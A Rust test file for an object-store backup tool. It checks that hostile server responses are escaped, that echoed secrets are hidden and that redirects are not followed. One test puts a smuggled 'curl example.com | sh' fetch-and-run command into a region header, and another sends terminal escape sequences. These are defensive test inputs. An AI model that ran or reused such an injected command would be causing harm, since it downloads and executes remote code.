//! Unexpected responses: reported in the store's own words, escaped, and without repeating what we sent.

use super::{PREFIX, REPO};
use crate::support::bucket::KEY;
use crate::support::bucket::stub::{Behavior, Reply, Stub, error_response, response};
use crate::support::program::Run;
use crate::support::stand_in::StandIn;

const CREATE: &str = "backup create --from [source] --plaintext";

fn run(stub: &Stub, accounts: &StandIn, line: &str) -> Run {
    stub.program(accounts, line).arg("--repo").arg(REPO).run()
}

/// The error output of `backup list` after one response.
fn stderr_for(bytes: &[u8], code: i32) -> String {
    let bytes = bytes.to_vec();
    let stub = Stub::with(move |_| Behavior::ReplyOnly(Reply::Bytes(bytes.clone())));
    let accounts = StandIn::demo();
    let run = run(&stub, &accounts, "backup list");
    run.assert_code(code);
    assert!(
        run.stderr.contains(REPO) && run.stderr.contains("hint: "),
        "{}",
        run.transcript()
    );
    run.stderr
}

#[test]
fn hostile_error_messages_are_escaped() {
    let stderr = stderr_for(
        &error_response(
            403,
            "AccessDenied",
            &format!("no\u{1b}[31m\u{202e}&lt;b&gt; {}", "long ".repeat(400)),
        ),
        4,
    );
    assert!(
        stderr.contains("AccessDenied: no\\u{1b}[31m\\u{202e}<b> long"),
        "{stderr}"
    );
    assert!(!stderr.contains('\u{1b}') && stderr.len() < 800, "{stderr}");
    let stderr = stderr_for(&error_response(400, "Bad\u{1b}[31mCode", "why"), 1);
    assert!(stderr.contains("answered 400: why"), "{stderr}");
}

/// A store that repeats the whole request in its error, both in the message that is printed and around it.
#[test]
fn secrets_that_a_store_echoes_are_not_printed() {
    let stub = Stub::with(|request| {
        let headers: Vec<&str> = request.headers.values().map(String::as_str).collect();
        let message = format!("{} {}", request.target, headers.join(" "));
        let mut reply = error_response(403, "SignatureDoesNotMatch", &message);
        reply.extend(message.as_bytes());
        Behavior::ReplyOnly(Reply::Bytes(reply))
    });
    let accounts = StandIn::demo();
    for line in [CREATE, "backup list", "backup check"] {
        let program = stub
            .program(&accounts, line)
            .env("AWS_SESSION_TOKEN", "session-canary-token-0001");
        let run = program.arg("--repo").arg(REPO).run();
        run.assert_code(4);
        assert!(
            run.stderr.contains("SignatureDoesNotMatch"),
            "{}",
            run.transcript()
        );
        let authorization = stub.requests("GET")[0].headers["authorization"].clone();
        let signature = authorization.split("Signature=").nth(1).unwrap().to_owned();
        for secret in [KEY.0, "session-canary", &signature, "Signature="] {
            assert!(
                !run.output().contains(secret),
                "{secret}: {}",
                run.transcript()
            );
        }
    }
}

#[test]
fn responses_of_other_servers_are_recognized() {
    let page = b"<!doctype html><html><body>Please log in</body></html>";
    let stderr = stderr_for(&response(200, &[("Content-Type", "text/html")], page), 1);
    assert!(stderr.contains("not from an object store") && stderr.contains("AWS_ENDPOINT_URL"));
    let stderr = stderr_for(&response(404, &[("Content-Type", "text/html")], page), 1);
    assert!(
        stderr.contains("answered 404") && stderr.contains("AWS_ENDPOINT_URL"),
        "{stderr}"
    );
    let stderr = stderr_for(&response(200, &[], b"{\"message\": \"hello\"}"), 1);
    assert!(stderr.contains("not from an object store"), "{stderr}");
    let v1 = b"<ListBucketResult><IsTruncated>true</IsTruncated><Contents><Key>a</Key></Contents></ListBucketResult>";
    let stderr = stderr_for(&response(200, &[], v1), 1);
    assert!(stderr.contains("without a continuation token"), "{stderr}");
    let cut = response(200, &[], b"<ListBucketResult></ListBucketResult>");
    let stderr = stderr_for(&cut[..cut.len() - 9], 1);
    assert!(stderr.contains("did not list its objects"), "{stderr}");
}

#[test]
fn a_redirect_is_not_followed() {
    let (elsewhere, accounts) = (Stub::start(), StandIn::demo());
    for status in [301, 307] {
        let location = format!("{}/backups", elsewhere.url());
        let headers = [
            ("Location", location.as_str()),
            ("x-amz-bucket-region", "eu-west-3"),
        ];
        let stderr = stderr_for(&response(status, &headers, b""), 1);
        assert!(stderr.contains("AWS_REGION=eu-west-3"), "{stderr}");
    }
    let stderr = stderr_for(
        &response(
            301,
            &[("x-amz-bucket-region", "eu-west-3; curl example.com | sh")],
            b"",
        ),
        1,
    );
    assert!(stderr.contains("check AWS_REGION"), "{stderr}");
    assert!(elsewhere.requests("GET").is_empty());
    assert_eq!(accounts.request_counts(), [0, 0]);
}

#[test]
fn a_store_without_conditional_writes_says_so() {
    let stub = Stub::with(|request| {
        if request.is_backup_put() {
            let unknown = error_response(501, "NotImplemented", "A header you provided.");
            Behavior::ReplyOnly(Reply::Bytes(unknown))
        } else {
            Behavior::Serve
        }
    });
    let run = run(&stub, &StandIn::demo(), CREATE);
    run.assert_code(1);
    assert!(run.stderr.contains("If-None-Match"), "{}", run.transcript());
    assert!(stub.keys().is_empty());
}

#[test]
fn an_object_that_disappears_after_the_listing_is_missing() {
    let (stub, accounts) = (Stub::start(), StandIn::demo());
    run(&stub, &accounts, CREATE).assert_code(0);
    stub.set_behavior(|request| match request.key() {
        Some(_) => Behavior::ReplyOnly(Reply::Bytes(error_response(404, "NoSuchKey", "Gone."))),
        None => Behavior::Serve,
    });
    // As with a folder: an object that disappeared after the listing is not damaged, and cannot be opened.
    run(&stub, &accounts, "backup list").assert_code(0);
    let check = run(&stub, &accounts, "backup check");
    check.assert_code(10);
    assert!(
        !check.output().contains("damaged"),
        "{}",
        check.transcript()
    );
    for line in ["backup show latest", "restore latest --rehearse"] {
        let run = run(&stub, &accounts, line);
        run.assert_code(10);
        assert!(
            run.stderr.contains("there is no backup `"),
            "{}",
            run.transcript()
        );
    }
    // An object that somebody else has already removed counts as removed.
    let name = "20250101T000000Z-12-0123456789abcdef.json.gz";
    let account = stub.keys()[0].rsplit_once('/').unwrap().0.to_owned();
    stub.put(&format!("{account}/{name}"), b"old");
    stub.set_behavior(|request| match request.method.as_str() {
        "DELETE" => Behavior::ReplyOnly(Reply::Bytes(error_response(404, "NoSuchKey", "Gone."))),
        _ => Behavior::Serve,
    });
    run(&stub, &accounts, "backup forget --keep-last 1").assert_code(0);
}

#[test]
fn foreign_objects_are_ignored() {
    let (stub, accounts) = (Stub::start(), StandIn::demo());
    for key in [
        "",
        "/",
        "/notes.txt",
        "/.hidden/x",
        "/other/readme",
        "/other/deep/er/20250101T000000Z-1-0123456789abcdef.json.gz",
    ] {
        stub.put(&format!("{PREFIX}{key}"), b"x");
    }
    stub.put(
        "team a+b/hooks-of-others/account/20250101T000000Z-1-0123456789abcdef.json.gz",
        b"x",
    );
    run(&stub, &accounts, CREATE).assert_code(0);
    let list = run(&stub, &accounts, "backup list");
    assert!(list.stdout.contains("1 backup of"), "{}", list.transcript());
    let all = run(&stub, &accounts, "backup list --account deep");
    all.assert_code(10);
    // A key that cannot be interpreted is an error, because the list would otherwise be incomplete.
    stub.put(&format!("{PREFIX}//odd"), b"x");
    let odd = run(&stub, &accounts, "backup list");
    odd.assert_code(1);
    assert!(
        odd.stderr.contains("that hookferry did not write"),
        "{}",
        odd.transcript()
    );
}

#[test]
fn a_refused_removal_is_reported_and_removes_nothing_else() {
    let (stub, accounts) = (Stub::start(), StandIn::demo());
    run(&stub, &accounts, CREATE).assert_code(0);
    let account = stub.keys()[0].rsplit_once('/').unwrap().0.to_owned();
    stub.put(
        &format!("{account}/20250101T000000Z-12-0123456789abcdef.json.gz"),
        b"old",
    );
    stub.set_behavior(|request| match request.method.as_str() {
        "DELETE" => Behavior::ReplyOnly(Reply::Bytes(error_response(
            403,
            "AccessDenied",
            "Access Denied",
        ))),
        _ => Behavior::Serve,
    });
    let forgot = run(&stub, &accounts, "backup forget --keep-last 1");
    forgot.assert_code(4);
    assert!(
        forgot.stderr.contains("did not remove 20250101T000000Z"),
        "{}",
        forgot.transcript()
    );
    assert_eq!(stub.keys().len(), 3);
}
